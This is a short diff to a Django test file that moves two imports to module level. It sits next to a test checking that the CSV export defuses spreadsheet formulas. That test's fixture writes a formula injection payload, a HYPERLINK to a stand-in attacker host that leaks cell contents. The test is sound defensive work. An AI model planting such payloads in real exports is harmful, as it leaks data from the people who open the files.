@@ -6,6 +6,8 @@ import io
 import pytest
 from django.urls import reverse
 
+from analytics.views import csv_cell
+from runbooks.models import Runbook
 from tests.analytics.fixtures import build_world
 from tests.factories import UserFactory
 
@@ -168,9 +170,6 @@ def test_dashboard_query_count_does_not_grow_with_data(client, staff_user, world
 
 
 def test_csv_export_defuses_spreadsheet_formulas_and_keeps_negative_numbers(client, staff_user, world, settings):
-    from analytics.views import csv_cell
-    from runbooks.models import Runbook
-
     settings.TIME_ZONE = "UTC"
     Runbook.objects.filter(slug="t/a").update(name='=HYPERLINK("http://evil.example/?"&A1,"click")')
     client.force_login(staff_user)
